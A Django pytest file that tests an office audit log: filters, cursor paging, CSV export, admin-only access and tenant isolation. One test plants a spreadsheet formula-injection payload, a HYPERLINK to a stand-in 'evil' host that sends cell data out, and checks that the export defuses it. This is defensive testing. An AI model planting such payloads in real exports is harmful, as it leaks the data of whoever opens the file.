"""The office's audit log: filtered by event, login (of the account or the employee) and dates,
paged, exported as CSV with readable labels; only the tenant admin reads it; another tenant's
events never appear."""

import re

import pytest
from django.db import connection
from django.test import Client

from identity.models import AuthEvent
from identity.services import account_block, audit, user_create
from identity.tests.conftest import login_verified_staff

pytestmark = pytest.mark.django_db
HOST = "alpha.localhost"
PASSWORD = "BiUr42#ok"


@pytest.fixture
def admin(alpha, customer):
    user = user_create(login="admin1", password=PASSWORD, role="tenant_admin")
    client = Client()
    login_verified_staff(client, HOST, user, PASSWORD)
    account_block(user=customer, actor=user, reason="Nadużycie portalu")
    return client


def test_filtered_by_event_and_by_the_employee_with_readable_details(admin):
    page = admin.get("/office/audit/", {"kind": "account_blocked"}, HTTP_HOST=HOST)
    html = page.content.decode()
    assert page.status_code == 200
    assert "Nadużycie portalu" in html
    assert "Kto: admin1" in html
    assert "{" not in html.split("<tbody>")[1].split("</tbody>")[0]  # no raw dict
    assert "Logowanie udane" not in html.split("<tbody>")[1]
    by_employee = admin.get("/office/audit/", {"who": "admin1"}, HTTP_HOST=HOST)
    assert "Nadużycie portalu" in by_employee.content.decode()
    other = admin.get("/office/audit/", {"who": "nobody-else"}, HTTP_HOST=HOST)
    assert "Nadużycie portalu" not in other.content.decode()


def test_dates_bound_the_log_on_both_sides(admin):
    today = AuthEvent.objects.get(kind="account_blocked").created_at.date()
    day = today.isoformat()
    assert (
        "Nadużycie"
        in admin.get(
            "/office/audit/", {"since": day, "until": day}, HTTP_HOST=HOST
        ).content.decode()
    )
    before = today.replace(year=today.year - 1).isoformat()
    assert (
        "Nadużycie"
        not in admin.get("/office/audit/", {"until": before}, HTTP_HOST=HOST).content.decode()
    )
    bad = admin.get("/office/audit/", {"since": "yesterday"}, HTTP_HOST=HOST)
    assert bad.status_code == 400
    assert 'class="error-summary"' in bad.content.decode()


def test_exported_as_csv_with_labels(admin):
    response = admin.get(
        "/office/audit/", {"kind": "account_blocked", "format": "csv"}, HTTP_HOST=HOST
    )
    assert response["Content-Type"].startswith("text/csv")
    text = b"".join(response.streaming_content).decode()
    assert text.startswith("\ufeff")
    assert "Konto zablokowane przez biuro" in text
    assert "Powód: Nadużycie portalu" in text
    assert "account_blocked" not in text


def test_paged(admin, customer):
    for _ in range(120):
        audit(AuthEvent.Kind.LOGIN_FAILED, user=customer, login=customer.username)
    first = admin.get("/office/audit/", {"kind": "login_failed"}, HTTP_HOST=HOST)
    html = first.content.decode()
    assert 'rel="next"' in html
    assert "Page 1 of" not in html  # no count of the whole log
    shown = {e.pk for e in first.context["events"]}
    assert len(shown) == 100
    link = re.search(r'href="(\?[^"]+)" rel="next"', html).group(1).replace("&amp;", "&")
    assert "kind=login_failed" in link  # the filter is kept
    second = admin.get("/office/audit/" + link, HTTP_HOST=HOST)
    assert 'rel="prev"' in second.content.decode()
    rest = {e.pk for e in second.context["events"]}
    assert len(rest) == 20
    assert not shown & rest  # no row twice, none lost
    # A cursor tampered with gives the first page, not an error.
    assert admin.get("/office/audit/?cursor=bm9wZQ", HTTP_HOST=HOST).status_code == 200


def test_only_the_admin_reads_it_and_never_another_tenants(admin, staff, tenants):
    clerk = Client()
    login_verified_staff(clerk, HOST, staff, PASSWORD)
    assert clerk.get("/office/audit/", HTTP_HOST=HOST).status_code == 403
    connection.set_tenant(tenants.b)
    audit(AuthEvent.Kind.LOGIN_FAILED, login="tylko-w-becie")
    connection.set_tenant(tenants.a)
    assert "tylko-w-becie" not in admin.get("/office/audit/", HTTP_HOST=HOST).content.decode()


def test_a_filter_that_cannot_be_read_shows_and_exports_nothing(admin):
    bad = admin.get(
        "/office/audit/",
        {"kind": "account_blocked", "since": "bad", "format": "csv"},
        HTTP_HOST=HOST,
    )
    assert bad.status_code == 400
    assert "Nadużycie" not in bad.content.decode()
    far = admin.get("/office/audit/", {"until": "9999-12-31"}, HTTP_HOST=HOST)
    assert far.status_code == 200
    assert "Nadużycie" in far.content.decode()


def test_the_csv_never_runs_a_cell_as_a_formula_and_the_export_is_recorded(admin, customer):
    audit(AuthEvent.Kind.LOGIN_FAILED, login='=HYPERLINK("http://evil/?"&A1,"x")')
    response = admin.get("/office/audit/", {"format": "csv"}, HTTP_HOST=HOST)
    text = b"".join(response.streaming_content).decode()
    assert ";'=HYPERLINK" in text or ";\"'=HYPERLINK" in text
    assert ";=HYPERLINK" not in text
    assert ';"=HYPERLINK' not in text
    assert AuthEvent.objects.filter(kind="audit_exported").count() == 1


def test_documents_accepted_read_by_their_names_and_versions(tenants):
    """The log kept "e_services_policy:v1"; a person reads the document's name and version."""
    from django.utils import translation

    from identity.audit_labels import detail_lines

    with translation.override("pl"):
        lines = detail_lines({"documents": ["e_services_policy:v1", "regulations:v3"]})
    assert lines == [
        (
            "Dokumenty",
            "Polityka świadczenia usług drogą elektroniczną (wersja 1), Regulamin (wersja 3)",
        )
    ]
